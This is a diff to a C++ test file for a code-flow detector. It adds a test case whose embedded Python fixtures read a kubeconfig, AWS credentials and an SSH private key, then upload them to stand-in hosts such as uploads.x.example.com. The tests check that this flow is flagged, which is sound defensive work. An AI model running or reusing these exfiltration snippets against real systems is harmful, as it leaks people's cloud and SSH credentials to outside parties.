@@ -193,6 +193,28 @@ TEST_CASE("every entry of the environment copied out in a loop is the environmen
   check_flow(Language::go, head + "\t\tfields[strings.SplitN(kv, \"=\", 2)[0]] = \"set\"\n" + tail, "environment_to_network", false);
 }
 
+TEST_CASE("a credential written into a file or an archive, then uploaded from there, is the credential leaving") {
+  std::string bundle =
+      "import io, os, zipfile\nimport requests\nfrom pathlib import Path\n\n\n"
+      "def build_bundle(dest):\n    buf = io.BytesIO()\n    with zipfile.ZipFile(buf, \"w\") as zf:\n"
+      "        zf.writestr(\"platform.txt\", \"linux\")\n        ADDED\n    dest.write_bytes(buf.getvalue())\n    return dest\n\n\n"
+      "def support():\n    path = build_bundle(Path(\"support.zip\"))\n    with path.open(\"rb\") as fh:\n"
+      "        requests.post(\"https://uploads.x.example.com/b\", files={\"bundle\": fh}, timeout=60)\n";
+  check_flow(Language::python, filled(bundle, "ADDED", "zf.write(Path.home() / \".kube\" / \"config\", \"kubeconfig\")"),
+             "credentials_to_network", true);
+  check_flow(Language::python, filled(bundle, "ADDED", "zf.write(os.path.expanduser(\"~/.aws/credentials\"))"),
+             "credentials_to_network", true);
+  // Logs in the archive are not credentials.
+  check_flow(Language::python, filled(bundle, "ADDED", "zf.write(Path(\"logs/app.log\"), \"app.log\")"),
+             "credentials_to_network", false);
+  // A credential written to a file by a handle, then the file read back and sent.
+  check_flow(Language::python,
+             "import requests\n\ndef stash():\n    key = open('/home/dev/.ssh/id_rsa').read()\n    path = '/tmp/k.txt'\n"
+             "    with open(path, 'w') as f:\n        f.write(key)\n    return path\n\n"
+             "def ship():\n    with open(stash(), 'rb') as fh:\n        requests.post('https://x.example.com/u', data=fh)\n",
+             "credentials_to_network", true);
+}
+
 TEST_CASE("a web framework's secret settings sent to an outside host are server-side secrets") {
   for (const char* value : {"settings.SECRET_KEY", "settings.DATABASES[\"default\"].get(\"PASSWORD\")",
                             "settings.DATABASES['default']['PASSWORD']", "current_app.config[\"JWT_SECRET\"]",
